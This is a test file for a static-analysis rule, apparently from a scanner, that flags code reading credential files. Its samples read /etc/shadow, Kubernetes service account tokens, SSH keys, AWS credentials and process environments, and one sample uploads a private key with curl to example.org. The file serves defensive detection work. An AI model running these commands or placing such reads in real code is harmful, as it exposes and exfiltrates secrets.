import { describe, expect, test } from "vitest";
import { placesIn } from "../../analysis/inspect-texts.ts";

const places = (text: string) => placesIn("SEC-014", text);

describe("files that hold credentials", () => {
  test.each([
    ["a command in words", 'import subprocess\nsubprocess.run(["cat", "/etc/shadow"], check=True)\n'],
    ["the service account's token", 'open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\n'],
    ["a path", 'from pathlib import Path\nPath("/etc/shadow").read_text()\n'],
    [
      "a path of parts",
      'from pathlib import Path\n(Path("/var/run") / "secrets" / "kubernetes.io" / "x").read_text()\n',
    ],
    ["a home's path", 'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()\n'],
    [
      "a path of the environment",
      'import os\nfrom pathlib import Path\n(Path(os.environ["AIRFLOW_HOME"]) / "airflow.cfg").read_text()\n',
    ],
    ["a URL", 'from urllib.request import Request, urlopen\nurlopen(Request("file:///etc/shadow"))\n'],
    ["another's environment", 'open(f"/proc/{1}/environ").read()\n'],
    ["a home's key", 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))\n'],
    ["airflow.cfg", 'import os\nopen(os.path.join(os.environ["AIRFLOW_HOME"], "airflow.cfg"))\n'],
    ["by copying", 'import shutil\nshutil.copy("/root/.aws/credentials", "out")\n'],
    [
      "in a shell",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="cat ~/.aws/credentials")\n',
    ],
    [
      "uploaded",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -F file=@/root/.ssh/id_rsa https://example.org")\n',
    ],
  ])("%s", async (_, text) => {
    expect(await places(text)).toHaveLength(1);
  });

  test.each([
    [
      "a key that is only used",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="ssh -i ~/.ssh/id_rsa host date")\n',
    ],
    ["a name in a message", 'print("see airflow.cfg")\n'],
    [
      "an operator's argument",
      'from airflow.providers.ssh.hooks.ssh import SSHHook\nSSHHook(key_file="/home/airflow/.ssh/id_rsa")\n',
    ],
    ["a temporary directory", 'import tempfile\nopen(tempfile.mkdtemp() + "/.netrc")\n'],
    ["another file", 'open("/opt/airflow/dags/list.csv")\n'],
    ["a directory that is given", 'from pathlib import Path\ndef f(d):\n    (Path(d) / ".netrc").read_text()\n'],
  ])("not: %s", async (_, text) => {
    expect(await places(text)).toEqual([]);
  });
});
